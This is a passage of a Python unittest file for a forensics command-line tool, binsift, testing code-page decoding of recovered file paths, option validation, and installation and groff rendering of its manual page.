        self.assertEqual([r["deleted"] for r in western], [r["deleted"] for r in japanese])
        self.assertNotEqual([r["original_path"] for r in western],
                            [r["original_path"] for r in japanese])
        self.assertEqual(self.records("--CODEPAGE=cp1252"), western)
        # Bytes code page 1252 does not define are named; code page 932
        # defines them all.
        undefined = [r for r in western if "codepage-undefined" in r["warnings"]]
        self.assertTrue(undefined)
        for r in western:
            self.assertEqual("codepage-undefined" in r["warnings"], "\ufffd" in r["original_path"],
                             r["original_path"])
        self.assertFalse([r for r in japanese if r["warnings"]])

    def test_seed_report_keeps_the_bytes(self):
        plain = run(["-p", self.tmp, "-f", "INFO"])
        self.assertEqual(run(["-p", self.tmp, "-f", "INFO", "--codepage=CP932"])[:2], plain[:2])
        self.assertIn("\\\uff83\uff9e".encode("cp932"), plain[1])

    def test_unknown_code_page_is_an_illegal_option(self):
        for word in ("codepage=NO-SUCH-PAGE", "codepage", "codepage="):
            code, out, _ = run(["-p", self.tmp, "--" + word])
            self.assertEqual((code, out), (5, b"\nIllegal option: " + word.encode()), word)


class ManualPage(TreeTest):
    ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..")

    def test_installed_beside_the_program(self):
        build = os.path.dirname(BINSIFT)
        stage = self.path("stage")
        p = subprocess.run(["make", "-s", "-C", self.ROOT, "install", "BUILD=" + build,
                            "DESTDIR=" + stage, "PREFIX=/opt/bs", "JOBS=1"],
                           capture_output=True, timeout=600)
        self.assertEqual(p.returncode, 0, p.stderr)
        program = os.path.join(stage, "opt/bs/bin/binsift")
        page = os.path.join(stage, "opt/bs/share/man/man1/binsift.1")
        self.assertTrue(os.stat(program).st_mode & stat.S_IXUSR)
        with open(program, "rb") as a, open(BINSIFT, "rb") as b:
            self.assertEqual(a.read(), b.read())
        with open(page, "rb") as a, open(os.path.join(self.ROOT, "doc", "binsift.1"), "rb") as b:
            self.assertEqual(a.read(), b.read())
        need_tool(self, "groff")
        p = subprocess.run(["groff", "-man", "-Tutf8", "-ww", "-z", page], capture_output=True,
                           timeout=60)
        self.assertEqual((p.returncode, p.stderr), (0, b""))
        p = subprocess.run(["groff", "-man", "-Tascii", page], capture_output=True, timeout=60,
                           env=dict(os.environ, LC_ALL="C"))
        text = p.stdout.decode("ascii", "replace")
        text = re.sub(".\b", "", text)  # overstrikes
        for word in FIELDS + ["--format=NAME", "--help-more", "-B", "EXIT STATUS", "mactime"]:
            self.assertIn(word, text)


if __name__ == "__main__":
    unittest.main()
